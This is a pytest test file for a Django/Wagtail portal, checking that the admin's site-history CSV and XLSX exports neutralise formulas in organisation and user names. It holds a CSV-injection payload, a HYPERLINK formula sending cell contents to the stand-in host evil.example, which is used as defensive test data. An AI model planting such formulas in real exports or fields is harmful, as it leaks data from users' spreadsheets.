"""Wagtail's own admin downloads (site history and the other reports) neutralise formulas too.

An asset or organisation a VCS member named `=HYPERLINK(...)` appears in the site history once
an officer edits it in the admin; `portal.spreadsheets.guard_wagtail_exports` puts Wagtail's
CSV cells through the same `safe_cell` as the portal's own exports.
"""

import csv
import io

import pytest
from wagtail.log_actions import log

from assets_map.models import Organisation
from portal.spreadsheets import guard_wagtail_exports
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def logged(settings):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    admin = make_user("admin@example.org", is_superuser=True, is_staff=True,
                      first_name="@SUM(1+1)", last_name="Officer")
    log(Organisation.objects.create(name=PAYLOAD), "wagtail.edit", user=admin)
    return admin


def test_site_history_csv_cannot_run_a_formula_in_a_name(client, logged):
    client.force_login(logged)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    mine = [row for row in rows if PAYLOAD in row["Name"]]
    assert [row["Name"] for row in mine] == ["'" + PAYLOAD]
    assert mine[0]["User"].startswith("'@SUM")


def test_site_history_xlsx_keeps_names_as_text(client, logged):
    from openpyxl import load_workbook

    client.force_login(logged)
    response = client.get("/admin/reports/site-history/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [cell for cell in sheet["B"] if cell.value and PAYLOAD in cell.value]
    assert names and all(cell.data_type == "s" for cell in names)


def test_guarding_twice_changes_nothing():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    guarded = SpreadsheetExportMixin.preprocess_field_value
    guard_wagtail_exports()
    assert SpreadsheetExportMixin.preprocess_field_value is guarded
